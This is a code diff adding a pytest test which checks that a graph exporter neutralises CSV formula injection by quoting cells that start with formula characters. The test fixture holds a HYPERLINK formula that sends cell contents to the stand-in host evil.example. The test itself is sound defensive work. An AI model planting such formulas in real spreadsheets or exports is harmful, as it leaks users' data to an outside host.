@@ -406,6 +406,21 @@ def test_a_lone_surrogate_is_an_export_error_where_the_file_is_utf8_text(tmp_pat
         assert READERS[fmt](tmp_path / fmt).nodes["Organisation:o1"]["name"] == "Bad \\udc80 name"
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_start_like_a_formula_are_written_as_text(tmp_path: Path, start: str) -> None:
+    """OWASP's CSV injection: a spreadsheet runs a cell starting with any of these; with a quote first, it shows
+    the text. The export reads from a store whatever its kind, so the embedded store stands for both."""
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
+    export(_one_release(formula, link_type=f"{start}1+1"), "csv", tmp_path / "out")
+    with (tmp_path / "out" / "nodes.csv").open(encoding="utf-8", newline="") as handle:
+        names = {row["id"]: row["name"] for row in csv.DictReader(handle)}
+    assert names == {"Organisation:o1": "'" + formula, "Release:R1": "R1"}
+    with (tmp_path / "out" / "edges.csv").open(encoding="utf-8", newline="") as handle:
+        assert [row["link_type"] for row in csv.DictReader(handle)] == [f"'{start}1+1"]
+    cells = (tmp_path / "out" / "nodes.csv").read_text(encoding="utf-8").replace('"', "").replace("\n", ",")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.split(","))
+
+
 @pytest.mark.parametrize("fmt", ["graphml", "gexf"])
 def test_xml_keeps_the_characters_it_can_carry(tmp_path: Path, fmt: str) -> None:
     """A tab, a line feed and a letter beyond the Basic Multilingual Plane are XML characters, kept as they are
